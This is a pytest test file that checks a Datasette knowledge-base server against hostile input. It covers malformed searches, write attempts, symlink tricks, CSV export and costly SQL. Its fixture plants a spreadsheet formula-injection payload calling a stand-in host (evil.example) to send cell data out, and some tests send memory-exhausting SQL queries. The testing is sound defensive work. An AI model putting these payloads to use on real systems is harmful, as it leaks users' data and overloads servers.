"""The served KB under hostile or heavy use: bad searches, writes, planted files, formula cells, repeated graphs."""

from __future__ import annotations

import asyncio
import csv
import io
import math
import os
import stat
import tempfile
import time
from pathlib import Path

import networkx as nx
import pytest
import sqlite_utils
from datasette.app import Datasette

from kb.datasette import config, graph_svg
from kb.datasette.config import metadata
from tests.test_plugin import build_workbench_kb

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture(scope="module")
def kb_path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = build_workbench_kb(tmp_path_factory.mktemp("reliability"))
    db = sqlite_utils.Database(path)
    db.execute("update claims set text = ? where rowid = (select min(rowid) from claims)", [FORMULA])
    db.execute("update claims set text = ? where rowid = (select max(rowid) from claims)", ["-1 and\n@SUM(1)"])
    db.conn.commit()
    db.close()
    return path


@pytest.fixture
def server(kb_path: Path) -> Datasette:
    """A fresh server per test, so caches start empty."""
    return Datasette([], immutables=[str(kb_path)], metadata=metadata(kb_path.stem), settings={"sql_time_limit_ms": 3000})


def call(ds: Datasette, method: str, path: str, **kwargs):
    return asyncio.run(getattr(ds.client, method)(path, **kwargs))


@pytest.mark.parametrize("q", ['"', '""', '" "', '"""'])
def test_reliability_server_search_bad_query_is_400(server, q):
    response = call(server, "get", "/kb/-/search", params={"q": q})
    assert response.status_code == 400
    assert "search" in response.text.lower() and "fts5" not in response.text


def test_reliability_server_search_quotes_still_find(server):
    response = call(server, "get", "/kb/-/search", params={"q": '"amendment'})
    assert response.status_code == 200
    assert "Fourth" in response.text


def test_reliability_server_search_message_is_escaped(server):
    response = call(server, "get", "/kb/-/search", params={"q": "<script>x</script> " * 40})
    assert response.status_code == 400
    assert "<script>x" not in response.text


@pytest.mark.parametrize("q", ["a" * 60_000, "amendment " * 500, " ".join(f"w{n}" for n in range(13))])
def test_reliability_server_search_too_long_is_400(server, q):
    response = call(server, "get", "/kb/-/search", params={"q": q})
    assert response.status_code == 400
    assert "too long" in response.text or "too many" in response.text


@pytest.mark.parametrize("method", ["post", "put", "delete", "patch"])
@pytest.mark.parametrize("path", ["/kb/-/search?q=x", "/kb/-/graph?node=documents:hostile", "/kb/-/reader?document=hostile", "/kb/-/mentions?id=test-mention"])
def test_reliability_server_plugin_pages_refuse_writes(server, method, path):
    response = call(server, method, path)
    assert response.status_code == 405
    assert response.headers["allow"] == "GET, HEAD"


def test_reliability_server_plugin_pages_answer_head(server):
    assert call(server, "head", "/kb/-/search?q=amendment").status_code == 200


@pytest.mark.parametrize("path", [
    "/kb/-/insert", "/kb/documents/-/insert", "/kb/documents/-/upsert", "/kb/-/create",
    "/kb/documents/-/drop", "/kb/documents/hostile/-/update", "/kb/documents/hostile/-/delete", "/-/insert",
])
def test_reliability_server_write_endpoints_answer_4xx(server, path):
    response = call(server, "post", path, json={"row": {"id": "x"}})
    assert 400 <= response.status_code < 500


def test_reliability_server_metadata_in_private_dir_not_following_symlink(tmp_path, monkeypatch):
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    victim = tmp_path / "victim.txt"
    victim.write_text("keep", encoding="utf-8")
    (tmp_path / "kb-kb-metadata.json").symlink_to(victim)
    db = tmp_path / "kb.db"
    first, second = config.write_metadata(db), config.write_metadata(db)
    assert victim.read_text(encoding="utf-8") == "keep"
    assert first.parent != second.parent and first.parent.parent == tmp_path
    for path in (first, second):
        assert not path.is_symlink() and path.read_text(encoding="utf-8").startswith("{")
        assert stat.S_IMODE(os.stat(path.parent).st_mode) == 0o700
        assert stat.S_IMODE(os.stat(path).st_mode) & 0o077 == 0
    args = config.datasette_args(db)
    assert Path(args[args.index("--metadata") + 1]).parent.parent == tmp_path


@pytest.mark.parametrize("path", ["/kb/claims.csv?_size=max", "/kb/claims.csv?_stream=on", "/kb/claims.csv?_dl=1&_stream=on",
                                  "/kb.csv?sql=select+text+from+claims"])
def test_reliability_server_csv_formula_cells_neutralised(server, path):
    response = call(server, "get", path)
    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(response.text)) for cell in row]
    assert "'" + FORMULA in cells and "'-1 and\n@SUM(1)" in cells
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in cells)


def test_reliability_server_csv_neutralises_across_chunks():
    from kb.datasette.csv_guard import CsvGuard

    text = 'id,text\r\n1,"=a\r\nb"\r\n2,+x\r\n3,-4\r\n4,ok\r\n'
    for size in (1, 2, 3, 7):
        guard = CsvGuard()
        data = text.encode()
        out = b"".join(guard.feed(data[i:i + size]) for i in range(0, len(data), size)) + guard.close()
        assert list(csv.reader(io.StringIO(out.decode()))) == [["id", "text"], ["1", "'=a\r\nb"], ["2", "'+x"], ["3", "-4"], ["4", "ok"]]


@pytest.fixture()
def layout_calls(monkeypatch) -> list[str]:
    """The centres of the graph layouts computed, in order."""
    calls: list[str] = []
    real = graph_svg.layout

    def counting(graph, center):
        calls.append(center)
        return real(graph, center)

    monkeypatch.setattr(graph_svg, "layout", counting)
    return calls


def test_reliability_server_graph_repeat_served_from_cache(server, layout_calls):
    calls = layout_calls
    first = call(server, "get", "/kb/-/graph?node=documents:hostile&depth=2")
    second = call(server, "get", "/kb/-/graph?node=documents:hostile&depth=2")
    assert first.status_code == second.status_code == 200 and first.text == second.text
    assert len(calls) == 1
    call(server, "get", "/kb/-/graph?node=documents:hostile")  # another depth: drawn anew
    assert len(calls) == 2


def test_reliability_server_graph_concurrent_requests_draw_once(server, layout_calls):
    calls = layout_calls

    async def many():
        await server.invoke_startup()
        return await asyncio.gather(*(server.client.get("/kb/-/graph?node=documents:hostile") for _ in range(20)))

    responses = asyncio.run(many())
    assert {r.status_code for r in responses} == {200}
    assert len(calls) == 1


def test_reliability_server_graph_cache_is_bounded():
    from kb.datasette.graph_cache import LRU

    cache: LRU[int, int] = LRU(3)
    for n in range(10):
        cache.put(n, n)
    assert len(cache) == 3 and cache.get(9) == 9 and cache.get(0) is None


def test_reliability_server_plugin_registers_whole_whatever_is_imported_first():
    # regression: importing kb.datasette before Datasette had loaded its plugins registered the plugin
    # half-defined (its import of Datasette's exception handler loaded the entry points mid-import), with no routes
    import subprocess
    import sys

    probe = ("import kb.datasette.config; from datasette.app import Datasette; import datasette.plugins as p; "
             "print(sorted(i.plugin_name for i in p.pm.hook.register_routes.get_hookimpls()))")
    result = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True, check=True)
    assert result.stdout.strip() == "['kb']"


@pytest.mark.parametrize("args", [
    {"_search": "a" * 60_000},  # 60 KB: FTS5 evaluated it where the time limit cannot reach
    {"_search": "amendment " * 500},
    {"_search": " ".join(f"w{n}" for n in range(13))},  # one term over MAX_TERMS
    {"_search_text": "a" * 60_000},  # a column's search, too
])
@pytest.mark.parametrize("table", ["sentences", "clauses", "sentences.json"])
def test_reliability_server_table_search_too_long_is_400(server, table, args):
    # regression: Datasette's own ?_search= had no cap (200 after running the whole search)
    response = call(server, "get", f"/kb/{table}", params=args)
    assert response.status_code == 400
    assert "too long" in response.text or "too many" in response.text


@pytest.mark.parametrize(("args", "message"), [
    ({"_search": '"'}, "Nothing to search for"),  # quotes alone
    ({"_search": ""}, "Nothing to search for"),  # an empty search box
    ({"_search": '"', "_searchmode": "raw"}, "Nothing to search for"),
    ({"_search": '"amendment', "_searchmode": "raw"}, "could not be understood"),  # an unclosed quote in FTS5 syntax
    ({"_search": "amendment AND", "_searchmode": "raw"}, "could not be understood"),  # a dangling operator
    ({"_search_text": "NEAR(", "_searchmode": "raw"}, "could not be understood"),
])
def test_reliability_server_table_search_syntax_error_is_400_with_message(server, args, message):
    # regression: answered "Invalid SQL" with SQLite's "fts5: syntax error near ..."
    response = call(server, "get", "/kb/sentences", params=args)
    assert response.status_code == 400
    assert message in response.text
    assert "fts5" not in response.text and "Invalid SQL" not in response.text


@pytest.mark.parametrize("args", [
    {"_search": "amendment"}, {"_search": '"fourth amendment"'}, {"_search": "amend*", "_searchmode": "raw"}, {"_search_text": "amendment"},
    {"_search": "fourth AND amendment", "_searchmode": "raw"}, {"_search": " ".join(["amendment"] * 12)},
])
def test_reliability_server_table_search_still_finds(server, args):
    response = call(server, "get", "/kb/sentences.json", params={**args, "_shape": "array"})
    assert response.status_code == 200
    assert any("Amendment" in row["text"] for row in response.json())


def test_reliability_server_table_search_ignored_without_index(server):
    # a table with no full-text index: Datasette ignores ?_search=, and so does the check
    assert call(server, "get", "/kb/mentions", params={"_search": '"'}).status_code == 200


@pytest.mark.parametrize("path", [
    "/kb/sentences?_through={",  # JSON that does not parse: was JSONDecodeError, 500
    "/kb/sentences?_through={}",  # a JSON object without its keys: was KeyError
    '/kb/sentences?_through={"table":"x","column":"y","value":"z"}',  # no such foreign key: DatasetteError with status 500
    "/kb/sentences?_timelimit=abc",  # was ValueError from int()
    "/kb/sentences?_sort=nope", "/kb/sentences.json?_sort_desc=nope",  # Datasette's message, with status 500
    "/kb/sentences?_sort=rowid&_next=1,2,3",
    "/kb/sentences?id__in=[", "/kb/sentences.json?id__in=[1",  # a JSON list that is not one
    "/kb/sentences?_search=x&_fts_table=%00", "/kb/sentences?_search=x&_fts_pk=%00",  # NUL in SQL: ProgrammingError
    "/kb/sentences_fts_idx/~ZZ",  # a row address that does not fit the table's key
    "/kb/sentences.csv?_stream=on&_sort=nope",
])
def test_reliability_server_datasette_arguments_it_cannot_read_are_400(server, path):
    # regression: each answered a bare 500 ("Server error")
    response = call(server, "get", path)
    assert response.status_code == 400, response.text[:300]
    assert "500" not in response.text.split("</title>")[0]


def test_reliability_server_query_out_of_time_as_csv_is_400(kb_path):
    # regression: the HTML and JSON of a query over the time limit answered 400, its CSV a 500
    ds = Datasette([], immutables=[str(kb_path)], metadata=metadata(kb_path.stem), settings={"sql_time_limit_ms": 100})
    sql = "with recursive c(x) as (select 1 union all select x + 1 from c) select count(*) from c"
    for path in ("/kb.csv", "/kb.json", "/kb"):
        assert call(ds, "get", path, params={"sql": sql}).status_code == 400


@pytest.mark.parametrize("sql", [
    "select zeroblob(1000000000)",  # took 15 s and a gigabyte
    "select length(replace(hex(zeroblob(3000000)), '0', 'aa'))",
])
def test_reliability_server_query_values_are_capped(server, sql):
    # regression: one value of a query could take gigabytes, out of the time limit's reach (one function call)
    response = call(server, "get", "/kb.json", params={"sql": sql})
    assert response.status_code == 400 and "too big" in response.json()["error"]


@pytest.mark.parametrize("sql", [
    "select printf('%.*c', 2000000000, 'x')",  # spun 3 to 7 s, past the time limit, before answering NULL
    "select format('%2000000000d', 1)",
])
def test_reliability_server_a_huge_printf_answers_null_at_once(server, sql):
    started = time.perf_counter()
    response = call(server, "get", "/kb.json", params={"sql": sql + " as v", "_shape": "array"})
    assert response.json() == [{"v": None}] and time.perf_counter() - started < 1  # SQLite's own answer, without the wait


def test_reliability_server_printf_still_formats_as_sqlite_does(server):
    sql = "select printf('%08d.', 42) as a, format('%s-%.2f', 'x', 3.14159) as b, printf(null) as c"
    response = call(server, "get", "/kb.json", params={"sql": sql, "_shape": "array"})
    assert response.json() == [{"a": "00000042.", "b": "x-3.14", "c": None}]


def test_reliability_server_query_values_the_build_stores_still_read(server):
    response = call(server, "get", "/kb.json", params={"sql": "select max(length(text)) as n, length(printf('%.*c', 3000000, 'x')) as m from documents",
                                                      "_shape": "array"})
    assert response.status_code == 200 and response.json()[0]["m"] == 3_000_000


@pytest.mark.parametrize("q", ["\x00", "a\x00b", "amendment\x00", '"fourth\x00amendment"'])
def test_reliability_server_search_with_nul_is_not_500(server, q):
    # regression: FTS5 read the NUL as the end of its query ("unterminated string"), a 500
    response = call(server, "get", "/kb/-/search", params={"q": q})
    assert response.status_code in (200, 400)
    assert "Server error" not in response.text


def test_reliability_server_plugin_errors_stay_500(server, monkeypatch):
    # the visitor's mistakes Datasette makes are 400; an exception in the plugin's own code is a bug, and says so
    import kb.datasette as plugin

    async def broken(*args, **kwargs):
        raise ValueError("a bug in the plugin")

    monkeypatch.setattr(plugin, "reader_context", broken)
    assert call(server, "get", "/kb/-/reader?document=hostile").status_code == 500


def neighbourhood_like(branches: int = 7) -> nx.Graph:
    """A centre, its neighbours and theirs, with a few ties across: the shape of a depth-2 graph page (57 nodes)."""
    graph = nx.Graph()
    for b in range(branches):
        graph.add_edge("c", f"b{b}")
        graph.add_edges_from((f"b{b}", f"b{b}-{leaf}") for leaf in range(branches))
    graph.add_edges_from((f"b{b}-0", f"b{(b + 1) % branches}-1") for b in range(branches))
    return graph


def test_reliability_server_graph_layout_is_quick_and_deterministic():
    # regression: networkx's Kamada-Kawai took 0.43 s per depth-2 drawing here (SciPy's optimiser woke
    # OpenBLAS's threads for each of thousands of small calls): 200 graph pages at once had p95 33 s
    import time

    graph = neighbourhood_like()
    graph_svg.stress_layout(graph)
    seconds = []
    for _ in range(3):
        began = time.perf_counter()
        first = graph_svg.stress_layout(graph)
        seconds.append(time.perf_counter() - began)
    assert min(seconds) < 0.1, seconds
    assert graph_svg.stress_layout(graph) == first


def test_reliability_server_graph_layout_follows_path_lengths():
    path = nx.path_graph([f"n{i}" for i in range(10)])
    pos = graph_svg.stress_layout(path)
    apart = {(a, b): math.dist(pos[a], pos[b]) for a in pos for b in pos if a < b}
    assert max(apart, key=apart.__getitem__) == ("n0", "n9")  # the ends of the path lie farthest apart
    two = nx.Graph([("a", "b"), ("c", "d")])  # separate components still get separate places
    placed = graph_svg.stress_layout(two)
    assert len({(round(x, 3), round(y, 3)) for x, y in placed.values()}) == 4
